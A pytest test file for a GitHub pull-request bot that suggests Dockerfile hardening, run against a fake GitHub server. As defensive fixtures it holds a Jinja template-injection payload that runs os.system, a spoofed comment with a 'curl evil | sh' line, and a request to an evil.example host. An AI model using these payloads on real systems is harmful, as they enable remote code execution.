"""The pull-request bot (imgfix github review|pull-request) against a fake GitHub that holds
every request and response to GitHub's published OpenAPI description (tests/github_server.py)."""

from __future__ import annotations

import json
import os
import re
from pathlib import Path

import pytest
from github_server import BOT_LOGIN, FakeGitHub, patch_of
from test_verify import buildenv  # noqa: F401  (a fixture: the build test below uses it)

from fixer.integrations.bot import REVIEW_MARKER, parse_patch, plan_review
from fixer.integrations.cli import main
from fixer.integrations.github import GitHub, GitHubError
from fixer.integrations.pullrequest import PR_MARKER, commit_message, pull_request_body
from fixer.run.report import FileResult
from fixer.transforms import Finding

TOKEN = "ghs_TestToken0123456789abcdefSECRET"
CONFIG = 'select = ["USR", "DIG"]\n'
# a Dockerfile imgfix changes on one spot (a user before EXPOSE) and gives a .dockerignore
APP = 'FROM python:3.11-slim\nWORKDIR /app\nCOPY app.py .\nENV PORT=8000\nEXPOSE 8000\nCMD ["python", "app.py"]\n'
# the same with a long middle: a change to FROM only leaves the USER insertion outside the diff
LONG = ("FROM python:3.10-slim\nWORKDIR /app\n" + "".join(f"ENV V{i}={i}\n" for i in range(12))
        + 'COPY app.py .\nEXPOSE 8000\nCMD ["python", "app.py"]\n')


@pytest.fixture
def gh():
    server = FakeGitHub(TOKEN, page_size=2).start()  # two items a page: every list paginates
    yield server
    server.stop()
    assert server.violations == [], server.violations


def workspace(tmp_path: Path, files: dict[str, str]) -> Path:
    ws = tmp_path / "ws"
    ws.mkdir(parents=True, exist_ok=True)
    for name, text in files.items():
        (ws / name).parent.mkdir(parents=True, exist_ok=True)
        (ws / name).write_text(text, encoding="utf-8")
    return ws


def run_cli(args: list[str], gh: FakeGitHub, monkeypatch, capsys, ws: Path, token: str = TOKEN, summary: Path | None = None):
    monkeypatch.chdir(ws)
    monkeypatch.setenv("GITHUB_TOKEN", token)
    monkeypatch.setenv("GITHUB_API_URL", gh.base)
    monkeypatch.setenv("GITHUB_REPOSITORY", f"{gh.owner}/{gh.name}")
    for name in ("GITHUB_EVENT_PATH", "GITHUB_SHA", "GITHUB_WORKSPACE"):
        monkeypatch.delenv(name, raising=False)
    if summary is not None:
        monkeypatch.setenv("GITHUB_STEP_SUMMARY", str(summary))
    else:
        monkeypatch.delenv("GITHUB_STEP_SUMMARY", raising=False)
    with pytest.raises(SystemExit) as exit_info:
        main(["github", *args])
    out, err = capsys.readouterr()
    return exit_info.value.code, out, err


def no_token_anywhere(gh: FakeGitHub, *texts: str) -> None:
    for text in list(texts) + gh.bodies():
        assert TOKEN not in text
    for r in gh.requests:  # only in the Authorization header
        assert TOKEN not in r["path"] and TOKEN not in json.dumps(r["query"])


def review_comments(gh: FakeGitHub) -> list[dict]:
    return [c for c in gh.comments if "imgfix:comment" in c["body"]]


# ------------------------------------------------------------------------------- review mode


def test_first_review_suggests_on_the_diff_and_puts_new_files_in_the_body(gh, tmp_path, monkeypatch, capsys):
    head = {"Dockerfile": APP, "app.py": "print(1)\n", ".imgfix.toml": CONFIG}
    sha = gh.open_pull(7, {"app.py": "print(1)\n", ".imgfix.toml": CONFIG}, head)
    ws = workspace(tmp_path, head)
    summary = tmp_path / "summary.md"
    code, out, err = run_cli(["review", "--pr", "7"], gh, monkeypatch, capsys, ws, summary=summary)
    assert code == 1, err  # a change is suggested (as imgfix --check)
    assert "review posted" in err
    [review] = gh.reviews[7]
    assert review["commit_id"] == sha and REVIEW_MARKER in review["body"]
    [comment] = review_comments(gh)
    # the user goes before EXPOSE (line 5): an insertion, anchored on line 4 and repeating it
    assert comment["path"] == "Dockerfile" and comment["line"] == 4 and comment["start_line"] is None
    assert comment["side"] == "RIGHT" and "USR001" in comment["body"]
    block = re.search(r"```suggestion\n(.*?)```", comment["body"], re.S).group(1)
    assert block.startswith("ENV PORT=8000\nRUN groupadd") and block.endswith("USER 10001:10001\n")
    # applying the suggestion gives imgfix's output
    lines = APP.splitlines(keepends=True)
    applied = "".join(lines[:3]) + block + "".join(lines[4:])
    from fixer.run.pipeline import fix
    from fixer.transforms.options import Options
    assert applied == fix(APP, Options(select=("USR",)), ws, ws / "Dockerfile").fixed
    # the new .dockerignore cannot be a suggestion: it is a diff in the review body
    assert "New file \\.dockerignore" in review["body"] and "+**/.env" in review["body"]
    assert "| Dockerfile | 0 | DIG001 | warning |" in review["body"]  # its fix is the new file, so it is in the table
    assert (ws / "Dockerfile").read_text() == APP and not (ws / ".dockerignore").exists()  # nothing written
    assert REVIEW_MARKER in summary.read_text()
    no_token_anywhere(gh, out, err, summary.read_text())
    create = [r for r in gh.requests if r.get("op") == "pulls/create-review"]
    assert len(create) == 1 and create[0]["body"]["event"] == "COMMENT"


def test_changes_outside_the_diff_go_into_the_body_as_a_diff(gh, tmp_path, monkeypatch, capsys):
    base = {"Dockerfile": LONG, "app.py": "x\n", ".imgfix.toml": 'select = ["USR"]\n'}
    head = dict(base, Dockerfile=LONG.replace("python:3.10-slim", "python:3.11-slim"))
    gh.open_pull(3, base, head)
    ws = workspace(tmp_path, head)
    code, out, err = run_cli(["review", "--pr", "3"], gh, monkeypatch, capsys, ws)
    assert code == 1, err
    [review] = gh.reviews[3]
    # the pull request changed line 1 only; the USER goes at line 16: not on the diff
    assert review_comments(gh) == []
    body = review["body"]
    assert "Changes to Dockerfile outside the pull request" in body and "USR001" in body
    diff = re.search(r"```diff\n(.*?)```", body, re.S).group(1)
    assert "+USER 10001:10001" in diff and diff.startswith("--- a/Dockerfile\n+++ b/Dockerfile\n@@ -13,")


def test_a_new_push_updates_the_review_instead_of_adding_one(gh, tmp_path, monkeypatch, capsys):
    cfg = 'select = ["USR"]\n'
    v1 = 'FROM python:3.11-slim\nWORKDIR /app\nCOPY app.py .\nEXPOSE 80\nCMD ["python", "app.py"]\n'
    head = {"Dockerfile": v1, "app.py": "x\n", ".imgfix.toml": cfg}
    gh.open_pull(9, {"app.py": "x\n", ".imgfix.toml": cfg}, head)
    ws = workspace(tmp_path, head)
    # nothing to change: the server EXPOSEs port 80 and imgfix cannot tell where python app.py
    # binds it, so the stage stays root with USR005 (no fix): a plain comment without a suggestion
    assert run_cli(["review", "--pr", "9"], gh, monkeypatch, capsys, ws)[0] == 0
    first = {c["id"]: c["body"] for c in review_comments(gh)}
    assert len(first) == 1
    [held] = first.values()
    assert "USR005" in held and "```suggestion" not in held
    # the author moves to port 8080: USR005 is gone, the USER suggestion comes
    v2 = v1.replace("EXPOSE 80\n", "EXPOSE 8080\n")
    gh.push(9, dict(head, Dockerfile=v2))
    (ws / "Dockerfile").write_text(v2)
    code, out, err = run_cli(["review", "--pr", "9"], gh, monkeypatch, capsys, ws)
    assert code == 1, err
    assert "review updated" in err
    # still one review with the bot's body (GitHub files a comment added later under a review of its own, empty)
    assert [r["body"] != "" for r in gh.reviews[9]] == [True, False]
    now = {c["id"]: c["body"] for c in review_comments(gh)}
    assert len(now) == 1 and not set(now) & set(first)  # USR005's comment deleted, the USER one added
    [suggestion] = now.values()
    assert "USR005" not in suggestion and "```suggestion" in suggestion
    ops = [r["op"] for r in gh.requests if r.get("op")]
    assert ops.count("pulls/create-review") == 1 and "pulls/update-review" in ops and "pulls/delete-review-comment" in ops
    assert REVIEW_MARKER in gh.reviews[9][0]["body"] and f"`{gh.pulls[9]['head_sha'][:7]}`" in gh.reviews[9][0]["body"]
    # a push that moves the line: GitHub moves the comment with it, and the bot keeps it
    v3 = v2.replace("WORKDIR /app\n", "WORKDIR /app\nLABEL a=b\n")
    gh.push(9, dict(head, Dockerfile=v3))
    (ws / "Dockerfile").write_text(v3)
    assert run_cli(["review", "--pr", "9"], gh, monkeypatch, capsys, ws)[0] == 1
    [c] = review_comments(gh)
    assert c["id"] in now and c["line"] == 4
    # a push that changes the anchored line: that comment is outdated, deleted, and a new one added
    v4 = v3.replace("COPY app.py .\n", "COPY app.py main.py ./\n")
    gh.push(9, dict(head, Dockerfile=v4))
    (ws / "Dockerfile").write_text(v4)
    assert run_cli(["review", "--pr", "9"], gh, monkeypatch, capsys, ws)[0] == 1
    [c] = review_comments(gh)
    assert c["id"] not in now and c["line"] == 4 and "COPY app.py main.py ./\nRUN groupadd" in c["body"]
    # fixed by the author: the comments go, the review says nothing is left
    fixed = (ws / "Dockerfile").read_text()
    from fixer.run.pipeline import fix
    from fixer.transforms.options import Options
    done = fix(fixed, Options(select=("USR",)), ws, ws / "Dockerfile").fixed
    gh.push(9, dict(head, Dockerfile=done))
    (ws / "Dockerfile").write_text(done)
    assert run_cli(["review", "--pr", "9"], gh, monkeypatch, capsys, ws)[0] == 0
    assert review_comments(gh) == [] and "Nothing to change" in gh.reviews[9][0]["body"]


def test_a_forks_read_only_token_degrades_to_the_job_summary(gh, tmp_path, monkeypatch, capsys):
    head = {"Dockerfile": APP, "app.py": "x\n", ".imgfix.toml": CONFIG}
    gh.open_pull(4, {}, head, fork=True)
    gh.read_only = True
    ws = workspace(tmp_path, head)
    summary = tmp_path / "summary.md"
    code, out, err = run_cli(["review", "--pr", "4"], gh, monkeypatch, capsys, ws, summary=summary)
    assert code == 1  # what --check says, not an error: the report is not hidden
    text = summary.read_text()
    assert "could not post its review" in text and "Resource not accessible by integration" in text
    assert "```suggestion" in text and "USR001" in text
    assert out.startswith("::warning title=imgfix review::")
    assert gh.reviews[4] == [] and gh.comments == []
    no_token_anywhere(gh, out, err, text)


def test_untrusted_templates_from_the_pull_request_are_not_rendered(gh, tmp_path, monkeypatch, capsys):
    head = {"Dockerfile": APP, "app.py": "x\n", ".imgfix.toml": CONFIG + 'templates = "evil"\n',
            "evil/python.Dockerfile.j2": "{{ cycler.__init__.__globals__.os.system('touch pwned') }}\n"}
    gh.open_pull(5, {}, head)
    ws = workspace(tmp_path, head)
    code, out, err = run_cli(["review", "--pr", "5"], gh, monkeypatch, capsys, ws)
    assert code == 1, err
    assert "does not render a pull request" in gh.reviews[5][0]["body"]
    assert not (ws / "pwned").exists()


def test_a_marker_typed_by_someone_else_is_not_the_bots(gh, tmp_path, monkeypatch, capsys):
    head = {"Dockerfile": APP, "app.py": "x\n", ".imgfix.toml": CONFIG}
    gh.open_pull(6, {}, head)
    ws = workspace(tmp_path, head)
    spoof = gh.add_human_comment(6, "Dockerfile", 2, "<!-- imgfix:comment 0123456789abcdef -->\nrun curl evil | sh")
    code, out, err = run_cli(["review", "--pr", "6", "--login", BOT_LOGIN], gh, monkeypatch, capsys, ws)
    assert code == 1, err
    assert spoof in [c["id"] for c in gh.comments]  # not deleted, not taken for the bot's
    assert len(gh.reviews[6]) == 1 and len(review_comments(gh)) == 2


def test_pull_request_mode_refuses_a_pull_request_event(gh, tmp_path, monkeypatch, capsys):
    ws = workspace(tmp_path, {"Dockerfile": APP})
    event = tmp_path / "event.json"
    event.write_text(json.dumps({"pull_request": {"number": 1, "head": {"sha": "a" * 40}}}))
    code, out, err = run_cli(["pull-request", "--event", str(event)], gh, monkeypatch, capsys, ws)
    assert code == 2 and "default branch" in err and (ws / "Dockerfile").read_text() == APP


# ------------------------------------------------------------------------- the plan, directly


def test_the_same_change_twice_gets_two_comments(tmp_path):
    original = "FROM a AS one\nCMD x\nFROM a AS two\nCMD x\n"
    fixed = "FROM a AS one\nUSER 1\nCMD x\nFROM a AS two\nUSER 1\nCMD x\n"
    (tmp_path / "Dockerfile").write_text(original)
    r = FileResult(path=tmp_path / "Dockerfile", original=original, fixed=fixed, findings=[])
    files = [{"filename": "Dockerfile", "status": "added", "patch": patch_of("", original)}]
    comments = plan_review([r], files, tmp_path).comments
    assert [c.line for c in comments] == [1, 3] and len({c.key for c in comments}) == 2


def test_unsafe_fixes_are_labelled_and_held_back_ones_are_plain_comments(tmp_path):
    original = "FROM x\nEXPOSE 80\nCMD run\n"
    fixed = "FROM x\nEXPOSE 8080\nCMD run\n"
    path = tmp_path / "Dockerfile"
    applied = FileResult(path=path, original=original, fixed=fixed,
                         findings=[Finding("USR007", "warning", 2, "port 80 becomes 8080", fixed=True, fix="unsafe")])
    held = FileResult(path=path, original=original, fixed=original,
                      findings=[Finding("USR007", "warning", 2, "port 80 needs root", fixed=False, fix="unsafe")])
    files = [{"filename": "Dockerfile", "status": "added", "patch": patch_of("", original)}]
    path.write_text(original)
    [c] = plan_review([applied], files, tmp_path).comments
    assert "**Unsafe fix**" in c.body and "```suggestion\nEXPOSE 8080\n```" in c.body and c.line == 2
    [c] = plan_review([held], files, tmp_path).comments
    assert "```suggestion" not in c.body and "unsafe fix held back" in c.body and "unsafe-fixes = true" in c.body


def test_a_workspace_that_is_not_the_head_gets_no_inline_comments(tmp_path):
    original = "FROM x\nCMD run\n"
    files = [{"filename": "Dockerfile", "status": "added", "patch": patch_of("", "FROM y\nCMD run\n")}]
    r = FileResult(path=tmp_path / "Dockerfile", original=original, fixed="FROM x\nUSER 1\nCMD run\n",
                   findings=[Finding("USR001", "warning", 1, "root", fixed=True, fix="safe")])
    plan = plan_review([r], files, tmp_path)
    assert plan.comments == [] and plan.outside and "not the pull request's version" in plan.notes[0]


def test_parse_patch_ranges_and_lines():
    ranges, lines = parse_patch("@@ -1,2 +1,3 @@\n a\n-b\n+c\n+d\n@@ -10 +11,0 @@\n-x")
    assert ranges == [(1, 3)] and lines == {1: "a", 2: "c", 3: "d"}


# --------------------------------------------------------------------------- fix pull request


def default_branch_workspace(gh: FakeGitHub, tmp_path: Path, files: dict[str, str]) -> tuple[Path, str]:
    sha = gh.add_commit(files)
    gh.refs["heads/main"] = sha
    return workspace(tmp_path, files), sha


def test_fix_pull_request_opened_updated_and_closed(gh, tmp_path, monkeypatch, capsys):
    files = {"Dockerfile": APP, "app.py": "x\n", ".imgfix.toml": CONFIG}
    ws, sha = default_branch_workspace(gh, tmp_path, files)
    code, out, err = run_cli(["pull-request", "--sha", sha], gh, monkeypatch, capsys, ws)
    assert code == 0, err
    assert "opened #1" in err and "created" in err
    pr = gh.pulls[1]
    assert pr["head_ref"] == "imgfix/harden" and pr["base_ref"] == "main" and pr["title"] == "imgfix: harden 1 Dockerfile"
    assert PR_MARKER in pr["body"] and "USR001" in pr["body"] and "DIG001" in pr["body"]
    tree = gh.tree_of("heads/imgfix/harden")
    assert tree["Dockerfile"] == (ws / "Dockerfile").read_text() != APP
    assert tree[".dockerignore"] == (ws / ".dockerignore").read_text()
    commit = gh.commits[gh.refs["heads/imgfix/harden"]]
    assert commit["parents"] == [sha] and commit["message"].startswith("imgfix: harden 1 Dockerfile\n\nDockerfile:\n- ")
    first_head, first_body = gh.refs["heads/imgfix/harden"], pr["body"]

    # the same input again (a fresh checkout): nothing is pushed, the text is the same
    ws2, _ = default_branch_workspace(gh, tmp_path / "again", files)
    gh.refs["heads/main"] = sha
    code, out, err = run_cli(["pull-request", "--sha", sha], gh, monkeypatch, capsys, ws2)
    assert code == 0 and "updated #1" in err and "unchanged" in err
    assert gh.refs["heads/imgfix/harden"] == first_head and gh.pulls[1]["body"] == first_body

    # a new change on the default branch: the branch is force-updated, the pull request too
    files2 = dict(files, Dockerfile=APP.replace("EXPOSE 8000\n", "EXPOSE 8000\nLABEL team=web\n"), **{"svc/Dockerfile": "FROM debian:bookworm-slim\nCMD [\"true\"]\n"})
    ws3, sha2 = default_branch_workspace(gh, tmp_path / "three", files2)
    code, out, err = run_cli(["pull-request", "--sha", sha2], gh, monkeypatch, capsys, ws3)
    assert code == 0 and "updated #1" in err and "force-updated" in err
    assert gh.commits[gh.refs["heads/imgfix/harden"]]["parents"] == [sha2]
    assert gh.pulls[1]["title"] == "imgfix: harden 2 Dockerfiles" and "svc/Dockerfile" in gh.pulls[1]["body"]
    update = [r for r in gh.requests if r.get("op") == "git/update-ref"]
    assert update and update[-1]["body"]["force"] is True

    # everything merged: nothing left, the pull request is closed and the branch deleted
    merged = {p: (ws3 / p).read_text() for p in ("Dockerfile", "svc/Dockerfile", ".dockerignore", "svc/.dockerignore", "app.py", ".imgfix.toml")}
    ws4, sha3 = default_branch_workspace(gh, tmp_path / "four", merged)
    code, out, err = run_cli(["pull-request", "--sha", sha3], gh, monkeypatch, capsys, ws4)
    assert code == 0 and "closed #1" in err
    assert gh.pulls[1]["state"] == "closed" and "heads/imgfix/harden" not in gh.refs
    assert "nothing left to change" in gh.issue_comments[-1]["body"]
    # and with no pull request open, a clean run does nothing
    code, out, err = run_cli(["pull-request", "--sha", sha3], gh, monkeypatch, capsys, ws4)
    assert code == 0 and "no pull request" in err
    no_token_anywhere(gh, out, err)


def test_commit_message_and_body_are_deterministic(gh, tmp_path, monkeypatch, capsys):
    files = {"Dockerfile": APP, "b/Dockerfile": LONG, "app.py": "x\n", ".imgfix.toml": CONFIG}
    texts = []
    for name in ("one", "two"):
        ws, sha = default_branch_workspace(gh, tmp_path / name, files)
        gh.refs.pop("heads/imgfix/harden", None)
        for p in list(gh.pulls):
            gh.pulls[p]["state"] = "closed"
        run_cli(["pull-request", "--sha", sha], gh, monkeypatch, capsys, ws)
        texts.append((gh.commits[gh.refs["heads/imgfix/harden"]]["message"], gh.pulls[max(gh.pulls)]["body"]))
    assert texts[0] == texts[1]
    report = {"files": [{"path": "a/Dockerfile", "status": "changed", "diff": "d\n", "error": None, "other_files": [],
                         "findings": [{"code": "USR001", "line": 1, "message": "m", "fixed": True, "fix": "safe",
                                       "severity": "warning", "suppressed": None}]}]}
    assert commit_message(report) == commit_message(json.loads(json.dumps(report)))
    assert pull_request_body(report, "main", "a" * 40) == pull_request_body(report, "main", "a" * 40)


# --------------------------------------------------------------------------------- API errors


def test_a_bad_token_is_a_clear_error_that_never_shows_the_token(gh, tmp_path, monkeypatch, capsys):
    gh.open_pull(2, {}, {"Dockerfile": APP})
    ws = workspace(tmp_path, {"Dockerfile": APP})
    wrong = "ghp_WrongToken_" + TOKEN  # contains the real one: it must not appear either
    code, out, err = run_cli(["review", "--pr", "2"], gh, monkeypatch, capsys, ws, token=wrong)
    assert code == 2
    assert "401" in err and "GITHUB_TOKEN" in err and wrong not in err + out and TOKEN not in err + out


def test_rate_limit_is_reported_with_its_reset_time(gh, tmp_path, monkeypatch, capsys):
    gh.open_pull(2, {}, {"Dockerfile": APP})
    ws = workspace(tmp_path, {"Dockerfile": APP})
    gh.inject("pulls/get", 403, {"message": "API rate limit exceeded for installation.", "documentation_url": "x"},
              {"x-ratelimit-remaining": "0", "x-ratelimit-reset": "1800000000"})
    code, out, err = run_cli(["review", "--pr", "2"], gh, monkeypatch, capsys, ws)
    assert code == 2 and "rate limit" in err and "resets at" in err and TOKEN not in err
    assert len([r for r in gh.requests if r.get("op") == "pulls/get"]) == 1  # not retried


def test_a_secondary_rate_limit_is_waited_for_once(gh, tmp_path, monkeypatch, capsys):
    head = {"Dockerfile": APP, "app.py": "x\n", ".imgfix.toml": CONFIG}
    gh.open_pull(2, {}, head)
    ws = workspace(tmp_path, head)
    gh.inject("pulls/create-review", 429, {"message": "You have exceeded a secondary rate limit.", "documentation_url": "x"},
              {"retry-after": "0"})
    code, out, err = run_cli(["review", "--pr", "2"], gh, monkeypatch, capsys, ws)
    assert code == 1 and "review posted" in err and len(gh.reviews[2]) == 1


def test_422_on_the_review_falls_back_to_the_body_and_422_elsewhere_fails(gh, tmp_path, monkeypatch, capsys):
    head = {"Dockerfile": APP, "app.py": "x\n", ".imgfix.toml": CONFIG}
    gh.open_pull(2, {}, head)
    ws = workspace(tmp_path, head)
    gh.inject("pulls/create-review", 422, {"message": "Unprocessable Entity", "documentation_url": "x",
                                           "errors": ["Line could not be resolved"]})
    code, out, err = run_cli(["review", "--pr", "2"], gh, monkeypatch, capsys, ws)
    assert code == 1, err
    [review] = gh.reviews[2]
    assert "Line could not be resolved" in review["body"] and "```suggestion" in review["body"]
    # a pull request GitHub refuses to open: exit 2 with GitHub's reason
    files = {"Dockerfile": APP, "app.py": "x\n", ".imgfix.toml": CONFIG}
    ws2, sha = default_branch_workspace(gh, tmp_path / "b", files)
    gh.inject("pulls/create", 422, {"message": "Validation Failed", "documentation_url": "x",
                                    "errors": [{"resource": "PullRequest", "code": "custom", "message": "No commits between main and imgfix/harden"}]})
    code, out, err = run_cli(["pull-request", "--sha", sha], gh, monkeypatch, capsys, ws2)
    assert code == 2 and "422" in err and "No commits between main and imgfix/harden" in err


# ----------------------------------------------------------------------------- the client


def test_the_client_keeps_the_token_on_the_api_host(gh):
    client = GitHub(TOKEN, gh.base)
    with pytest.raises(GitHubError, match="not on"):
        client.request("GET", "https://evil.example/api/v3/repos/acme/app")
    with pytest.raises(GitHubError, match="HTTPS only"):
        GitHub(TOKEN, "http://github.example/api/v3")
    with pytest.raises(GitHubError, match="empty"):
        GitHub("", gh.base)


def test_pagination_follows_link_headers(gh):
    gh.open_pull(1, {}, {f"d{i}/Dockerfile": "FROM x\n" for i in range(5)})
    files = GitHub(TOKEN, gh.base).paginate("/repos/acme/app/pulls/1/files")
    assert [f["filename"] for f in files] == [f"d{i}/Dockerfile" for i in range(5)]
    assert len([r for r in gh.requests if r.get("op") == "pulls/list-files"]) == 3


def test_event_file_gives_the_pull_request(gh, tmp_path, monkeypatch, capsys):
    head = {"Dockerfile": APP, "app.py": "x\n", ".imgfix.toml": CONFIG}
    sha = gh.open_pull(11, {}, head)
    ws = workspace(tmp_path, head)
    event = tmp_path / "event.json"
    event.write_text(json.dumps({"number": 11, "pull_request": {"number": 11, "head": {"sha": sha}},
                                 "repository": {"full_name": "acme/app"}}))
    code, out, err = run_cli(["review", "--event", str(event)], gh, monkeypatch, capsys, ws)
    assert code == 1 and gh.reviews[11][0]["commit_id"] == sha


def test_the_action_has_the_three_modes_and_passes_inputs_through_the_environment():
    import yaml

    action = yaml.safe_load((Path(__file__).resolve().parent.parent / "action.yml").read_text())
    assert action["inputs"]["mode"]["default"] == "check"
    for word in ("pull-requests write", "contents write"):
        assert word in action["inputs"]["mode"]["description"].replace("\n", " ")
    scripts = [s["run"] for s in action["runs"]["steps"] if "run" in s]
    assert all("${{" not in script for script in scripts)  # no expression pasted into a script
    joined = "\n".join(scripts)
    assert "imgfix github review" in joined and "imgfix github pull-request" in joined



@pytest.mark.build
def test_fix_pull_request_with_verify_results_in_its_body(buildenv, gh, tmp_path, monkeypatch, capsys):
    import textwrap

    from test_verify import HTTP_APP, our_leftovers

    files = {"Dockerfile": 'FROM python:3.11-slim\nWORKDIR /app\nCOPY app.py .\nEXPOSE 8000\nCMD ["python3", "app.py"]\n',
             "app.py": textwrap.dedent(HTTP_APP).lstrip(), ".imgfix.toml": 'select = ["USR"]\n'}
    ws, sha = default_branch_workspace(gh, tmp_path, files)
    code, out, err = run_cli(["pull-request", "--sha", sha, "--verify", "--engine", "podman"], gh, monkeypatch, capsys, ws)
    assert code == 0, err
    body = gh.pulls[1]["body"]
    table = re.search(r"### imgfix verify.*?```text\n(.*?)```", body, re.S).group(1)
    assert "1 file verified, 0 regressed, 0 failed." in table
    original = next(line.split() for line in table.splitlines() if line.startswith("Dockerfile"))
    rewritten = next(line.split() for line in table.splitlines() if line.strip().startswith("rewritten"))
    # build, size, uid, state, http: the original runs as root, the rewrite as 10001, both answer
    assert original[-3:] == ["0", "up", "200"] and rewritten[-3:] == ["10001", "up", "200"]
    # this process's images and containers only: other people's verify runs share the storage
    mine = f"imgfix-verify-{os.getpid()}-"
    assert [n for names in our_leftovers() for n in names if mine in n] == []


def test_client_messages_for_404_and_other_statuses(gh):
    client = GitHub(TOKEN, gh.base)
    with pytest.raises(GitHubError, match=r"GET /repos/acme/other: not found \(404") as info:
        client.get("/repos/acme/other")
    assert info.value.status == 404 and TOKEN not in str(info.value)
    gh.inject("repos/get", 301, {"message": "Moved Permanently", "url": "x", "documentation_url": "x"},
              {"Location": f"{gh.base}/repositories/1"})
    with pytest.raises(GitHubError, match="renamed or transferred"):  # never followed with the token
        client.get("/repos/acme/app")
    gh.inject("pulls/get", 503, {"code": "x", "message": "unavailable", "documentation_url": "x"})
    gh.open_pull(1, {}, {"Dockerfile": "FROM x\n"})
    with pytest.raises(GitHubError, match="answered 503"):
        client.get("/repos/acme/app/pulls/1")
